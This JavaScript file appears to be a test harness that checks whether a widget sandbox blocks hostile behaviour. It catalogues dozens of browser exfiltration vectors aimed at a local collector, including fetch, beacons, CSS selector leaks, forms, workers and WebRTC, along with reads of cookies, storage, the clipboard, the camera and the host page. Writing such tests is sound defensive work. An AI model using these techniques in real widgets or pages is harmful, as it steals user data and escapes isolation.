/* What a hostile widget would try. The same functions run in an ordinary page without any policy, where each must
   reach its door of the collector: that is the proof that they work at all.

   An attack is called with `at`, "127.0.0.1:<port>" of its own door. STAYS leave the document where it is, LEAVES take
   it away. READS want something of the host or the browser: they return what they got. MODALS show dialogs of
   the browser. NAMES make it look a host name up, which is seen in its own log. */
'use strict';

const element = (name, attributes = {}, text = '') => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  made.textContent = text;
  document.body.append(made);
  return made;
};
const style = (text) => element('style', {}, text);
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const press = (made) => made.click();
const SECRET = 'c2VjcmV0';

const STAYS = {
  fetch: (at) => fetch(`http://${at}/?${SECRET}`),
  'fetch keepalive': (at) => fetch(`http://${at}/`, { mode: 'no-cors', keepalive: true, method: 'POST' }),
  XMLHttpRequest: (at) => {
    const request = new XMLHttpRequest();
    request.open('POST', `http://${at}/`);
    request.send(SECRET);
  },
  WebSocket: (at) => void new WebSocket(`ws://${at}/`),
  EventSource: (at) => void new EventSource(`http://${at}/`),
  sendBeacon: (at) => navigator.sendBeacon(`http://${at}/`, SECRET),
  'a ping': (at) => press(element('a', { href: '#here', ping: `http://${at}/` })),
  'dynamic import': (at) => import(`http://${at}/a.js`),
  'script src': (at) => void element('script', { src: `http://${at}/a.js` }),
  'module preload': (at) => void element('link', { rel: 'modulepreload', href: `http://${at}/a.js` }),
  preload: (at) => void element('link', { rel: 'preload', as: 'image', href: `http://${at}/a.png` }),
  prefetch: (at) => void element('link', { rel: 'prefetch', href: `http://${at}/` }),
  preconnect: (at) => void element('link', { rel: 'preconnect', href: `http://${at}/` }),
  'speculation rules prefetch': (at) => {
    const rules = { prefetch: [{ source: 'list', urls: [`http://${at}/`], eagerness: 'immediate' }] };
    element('script', { type: 'speculationrules' }, JSON.stringify(rules));
  },
  'link stylesheet': (at) => void element('link', { rel: 'stylesheet', href: `http://${at}/a.css` }),
  'CSS import': (at) => void style(`@import url(http://${at}/a.css);`),
  'CSS attribute selector': (at) => {
    element('input', { value: 's3cret' });
    style(`input[value^="s"] { background: url(http://${at}/s); }`);
  },
  'CSS font': (at) => {
    style(`@font-face { font-family: stolen; src: url(http://${at}/a.woff2); }`);
    element('p', { style: 'font-family: stolen' }, 'letters');
  },
  'CSS image-set': (at) => void element('p', { style: `background: image-set("http://${at}/a.png" 1x)` }, 'x'),
  'CSS cursor and list': (at) => void element('li', { style: `list-style-image: url(http://${at}/a.png)` }, 'x'),
  'CSS mask': (at) => void element('p', { style: `mask-image: url(http://${at}/a.png); height: 9px` }, 'x'),
  FontFace: (at) => new FontFace('stolen2', `url(http://${at}/a.woff2)`).load(),
  'new Image': (at) => void (new Image().src = `http://${at}/?${SECRET}`),
  'img srcset': (at) => void element('img', { srcset: `http://${at}/a.png 1x` }),
  'video src': (at) => void element('video', { src: `http://${at}/a.mp4`, autoplay: '' }),
  'video poster': (at) => void element('video', { poster: `http://${at}/a.png` }),
  'audio src': (at) => void element('audio', { src: `http://${at}/a.mp3`, preload: 'auto' }),
  'input image': (at) => void element('input', { type: 'image', src: `http://${at}/a.png` }),
  'SVG image': (at) => {
    element('div').innerHTML = `<svg><image width="9" height="9" href="http://${at}/a.svg" /></svg>`;
  },
  'SVG filter': (at) => {
    element('div').innerHTML = `<svg width="9" height="9"><filter id="f"><feImage href="http://${at}/a.svg" /></filter>
      <rect width="9" height="9" filter="url(#f)" /></svg>`;
  },
  object: (at) => void element('object', { data: `http://${at}/` }),
  embed: (at) => void element('embed', { src: `http://${at}/` }),
  iframe: (at) => void element('iframe', { src: `http://${at}/` }),
  'iframe srcdoc': (at) => void element('iframe', { srcdoc: `<img src="http://${at}/a.png">` }),
  'iframe srcdoc script': (at) => void element('iframe', { srcdoc: `<script>fetch('http://${at}/')</script>` }),
  'iframe data': (at) => void element('iframe', { src: `data:text/html,<img src="http://${at}/a.png">` }),
  'iframe blob': (at) => void element('iframe', { src: blob(`<img src="http://${at}/a.png">`, 'text/html') }),
  'iframe about:blank': (at) => {
    const inner = element('iframe').contentDocument;
    inner.body.append(Object.assign(inner.createElement('img'), { src: `http://${at}/a.png` }));
  },
  'blob worker': (at) => void new Worker(blob(`fetch('http://${at}/')`, 'text/javascript')),
  'data worker': (at) => void new Worker(`data:text/javascript,fetch('http://${at}/')`),
  SharedWorker: (at) => void new SharedWorker(blob(`fetch('http://${at}/')`, 'text/javascript')),
  'service worker': (at) => navigator.serviceWorker.register(`/worker.js?${at}`),
  'paint worklet': (at) => CSS.paintWorklet.addModule(`http://${at}/a.js`),
  'audio worklet': (at) => new AudioContext().audioWorklet.addModule(`http://${at}/a.js`),
  'window.open': (at) => void window.open(`http://${at}/`),
  'window.open noopener': (at) => void window.open(`http://${at}/`, '_blank', 'noopener'),
  'a target=_blank': (at) => press(element('a', { href: `http://${at}/`, target: '_blank' })),
  'form target=_blank': (at) => element('form', { action: `http://${at}/`, target: '_blank' }).submit(),
  'form into iframe': (at) => {
    element('iframe', { name: 'into' });
    element('form', { action: `http://${at}/`, method: 'post', target: 'into' }).submit();
  },
  'WebRTC STUN': (at) => ice([{ urls: `stun:${at}` }]),
  'WebRTC TURN over TCP': (at) => ice([{ urls: `turn:${at}?transport=tcp`, username: 'u', credential: SECRET }]),
  WebTransport: (at) => void new WebTransport(`https://${at}/`),
};

async function ice(iceServers) {
  const peer = new RTCPeerConnection({ iceServers });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
}

const LEAVES = {
  location: (at) => void (location.href = `http://${at}/?${SECRET}`),
  'location.replace': (at) => location.replace(`http://${at}/?${SECRET}`),
  'a click': (at) => press(element('a', { href: `http://${at}/?${SECRET}` })),
  'a download': (at) => press(element('a', { href: `http://${at}/a.zip`, download: 'a.zip' })),
  'meta refresh': (at) => void element('meta', { 'http-equiv': 'refresh', content: `0;url=http://${at}/` }),
  'form GET': (at) => element('form', { action: `http://${at}/` }).submit(),
  'form POST': (at) => {
    const form = element('form', { action: `http://${at}/`, method: 'post' });
    form.innerHTML = `<input name="secret" value="${SECRET}">`;
    form.requestSubmit();
  },
  'navigate to data': (at) => void (location.href = `data:text/html,<img src="http://${at}/a.png">`),
  'navigate to blob': (at) => void (location.href = blob(`<img src="http://${at}/a.png">`, 'text/html')),
  'document.open': (at) => {
    document.open();
    document.write(`<img src="http://${at}/a.png">`);
    document.close();
  },
  'parent.location': (at) => void (parent.location.href = `http://${at}/`),
  'top.location': (at) => void (top.location.href = `http://${at}/`),
  'location of a sibling': (at) => void (top[0].location.href = `http://${at}/`),
  'a target=_top': (at) => press(element('a', { href: `http://${at}/`, target: '_top' })),
  'a target=_parent': (at) => press(element('a', { href: `http://${at}/`, target: '_parent' })),
  'form target=_top': (at) => element('form', { action: `http://${at}/`, target: '_top' }).submit(),
};

const READS = {
  'host DOM': () => parent.document.title,
  'host DOM of top': () => top.document.body.innerHTML,
  'frame element': () => window.frameElement.outerHTML,
  'host storage through parent': () => parent.localStorage.length,
  'host location': () => top.location.href,
  cookies: () => document.cookie,
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () =>
    new Promise((found, failed) => {
      const opening = indexedDB.open('x');
      opening.onsuccess = () => found('open');
      opening.onerror = () => failed(opening.error);
    }),
  caches: () => caches.keys().then((keys) => `keys ${keys.length}`),
  'storage directory': () => navigator.storage.getDirectory().then((folder) => folder.kind),
  cookieStore: () => cookieStore.getAll().then((all) => `cookies ${all.length}`),
  'window.opener': () => opener.location.href,
  'sibling DOM': () => [...Array(top.length).keys()].map((at) => top[at].document.title).join(),
  clipboard: () => navigator.clipboard.readText(),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(String),
  geolocation: () => new Promise((found, failed) => navigator.geolocation.getCurrentPosition(found, failed)),
  fullscreen: () => document.documentElement.requestFullscreen().then(() => 'full'),
  'storage access': () => document.requestStorageAccess().then(() => 'granted'),
};

const MODALS = {
  alert: () => alert('stolen'),
  confirm: () => confirm('stolen'),
  prompt: () => prompt('stolen'),
};

const NAMES = {
  'dns-prefetch': (host) => void element('link', { rel: 'dns-prefetch', href: `//${host}/` }),
  'preconnect by name': (host) => void element('link', { rel: 'preconnect', href: `http://${host}/` }),
  'prefetch by name': (host) => void element('link', { rel: 'prefetch', href: `http://${host}/` }),
  'fetch by name': (host) => fetch(`http://${host}/`),
  'image by name': (host) => void (new Image().src = `http://${host}/`),
  'WebRTC by name': (host) => ice([{ urls: `stun:${host}:3478` }]),
};

const ATTACKS = { ...STAYS, ...LEAVES, ...READS, ...MODALS, ...NAMES, allowed: STAYS.fetch, named: STAYS.fetch };
const NOTES = {};

/** Runs one, and remembers for the test to read that it did and how it ended. */
async function attack(name, at) {
  NOTES[name] = 'ran';
  write();
  try {
    const got = await ATTACKS[name](at);
    NOTES[name] = name in READS ? `got ${got}` : 'done';
  } catch (error) {
    NOTES[name] = `refused ${error?.name ?? error?.code ?? error}`;
  }
  write();
}

/** The notes as the document's own visible text: no bridge is needed to see that an attack ran. */
function write() {
  let list = document.getElementById('notes');
  if (!list) list = Object.assign(element('pre'), { id: 'notes' });
  list.textContent = JSON.stringify(NOTES);
}
